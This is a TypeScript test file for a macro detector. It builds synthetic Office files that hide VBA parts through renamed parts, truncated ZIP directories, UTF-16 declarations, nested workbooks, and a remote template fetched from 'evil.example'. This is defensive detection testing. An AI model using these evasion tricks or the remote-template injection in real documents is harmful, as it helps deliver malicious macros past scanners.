import { deflateRawSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { hasMacros } from './macros.ts'

/** A compound file of old Office whose directory, at the given sector, has these storages. */
function oldOffice(names: readonly string[], sector = 3): Buffer {
  const file = Buffer.alloc(512 * (sector + 4))
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(file)
  for (const [n, name] of ['Root Entry', 'WordDocument', ...names].entries()) {
    const at = 512 * sector + 128 * n
    file.write(name, at, 'utf16le')
    file.writeUInt16LE((name.length + 1) * 2, at + 64)
    file.writeUInt8(n === 0 ? 5 : name === name.toUpperCase() ? 1 : 2, at + 66)
  }
  return file
}

interface Options {
  isStored?: boolean
  /** Without the list of parts at the end. */
  isCut?: boolean
  /** The list names only so many of them. */
  listed?: number
}

/** A ZIP package of these parts. */
function zip(parts: Record<string, Buffer | string>, { isStored, isCut, listed }: Options = {}): Buffer {
  const pieces: Buffer[] = []
  const directory: Buffer[] = []
  let offset = 0
  for (const [name, given] of Object.entries(parts)) {
    const content = Buffer.from(given)
    const packed = isStored ? content : deflateRawSync(content)
    const local = Buffer.alloc(30)
    local.write('PK\x03\x04', 'latin1')
    local.writeUInt16LE(isStored ? 0 : 8, 8)
    local.writeUInt32LE(packed.length, 18)
    local.writeUInt32LE(content.length, 22)
    local.writeUInt16LE(Buffer.byteLength(name), 26)
    const central = Buffer.alloc(46)
    central.write('PK\x01\x02', 'latin1')
    central.writeUInt16LE(Buffer.byteLength(name), 28)
    central.writeUInt32LE(offset, 42)
    directory.push(central, Buffer.from(name))
    pieces.push(local, Buffer.from(name), packed)
    offset += 30 + Buffer.byteLength(name) + packed.length
  }
  if (isCut) return Buffer.concat(pieces)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...pieces, ...directory.slice(0, (listed ?? 1000) * 2), end])
}

const types = (more = '') =>
  `<?xml version="1.0"?><Types><Default Extension="xml" ContentType="text/xml"/>${more}</Types>`
const plain = { '[Content_Types].xml': types(), 'word/document.xml': '<w:document>Hola</w:document>' }
const program = oldOffice(['Macros', 'VBA', '_VBA_PROJECT'])

describe('a document brings a program along', () => {
  test.each([
    ['old Office with macros', oldOffice(['Macros', 'VBA'])],
    ['in whatever case', oldOffice(['mAcRoS'])],
    ['with its directory far away', oldOffice(['_VBA_PROJECT'], 900)],
    ['a new document, encrypted, under an old name', oldOffice(['EncryptedPackage'])],
    ['a package with its usual part', zip({ ...plain, 'word/vbaProject.bin': program })],
    ['under another name', zip({ ...plain, 'word/media/image1.png': program })],
    ['stored as it is', zip({ ...plain, 'word/foto.dat': program }, { isStored: true })],
    [
      'declared, whatever it is called',
      zip({
        ...plain,
        '[Content_Types].xml': types(
          '<Override PartName="/word/x.dat" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
      }),
    ],
    [
      'a kind of document that runs macros',
      zip({
        ...plain,
        '[Content_Types].xml': types(
          '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        ),
      }),
    ],
    [
      'declared in UTF-16',
      zip({
        ...plain,
        '[Content_Types].xml': Buffer.from(
          types('<Override ContentType="application/vnd.ms-office.vbaProject"/>'),
          'utf16le',
        ),
      }),
    ],
    [
      'a sheet with macros inside the document',
      zip({ ...plain, 'word/embeddings/hoja.xlsx': zip({ 'xl/workbook.xml': '', 'xl/x.bin': program }) }),
    ],
    ['a package without its list', zip({ ...plain, 'word/x.bin': program }, { isCut: true })],
    ['a list that leaves the part out', zip({ ...plain, 'word/x.bin': program }, { listed: 2 })],
    [
      'a template that is fetched from elsewhere',
      zip({
        ...plain,
        'word/_rels/settings.xml.rels':
          '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
      }),
    ],
    [
      'more than can be looked through',
      zip({ ...plain, '[Content_Types].xml': Buffer.alloc(9 * 1024 * 1024, 32) }),
    ],
  ])('%s', (_, content) => {
    expect(hasMacros(content)).toBe(true)
  })
})

describe('a document without', () => {
  test.each([
    ['old Office', oldOffice(['Data', '1Table', '\u0005SummaryInformation'])],
    [
      'old Office that speaks of macros',
      Buffer.concat([oldOffice([]), Buffer.from('Macros VBA _VBA_PROJECT', 'utf16le')]),
    ],
    ['a package', zip(plain)],
    ['stored as it is', zip(plain, { isStored: true })],
    [
      'with a picture and an old sheet inside',
      zip({
        ...plain,
        'word/media/a.png': Buffer.alloc(5000, 7),
        'word/embeddings/b.bin': oldOffice(['Workbook']),
      }),
    ],
    [
      'that speaks of macros',
      zip({
        ...plain,
        'word/document.xml': '<w:t>vnd.ms-office.vbaProject macroEnabled vbaProject.bin</w:t>',
      }),
    ],
    [
      'with a template of its own machine',
      zip({
        ...plain,
        'word/_rels/settings.xml.rels':
          '<Relationship Type="http://x/attachedTemplate" Target="file:///C:/Normal.dotm" TargetMode="External"/>',
      }),
    ],
    ['no package at all', Buffer.from('Hola')],
    ['the beginning of one', Buffer.from('PK\x03\x04\x01\x01', 'latin1')],
    ['nothing', Buffer.alloc(0)],
  ])('%s', (_, content) => {
    expect(hasMacros(content)).toBe(false)
  })
})
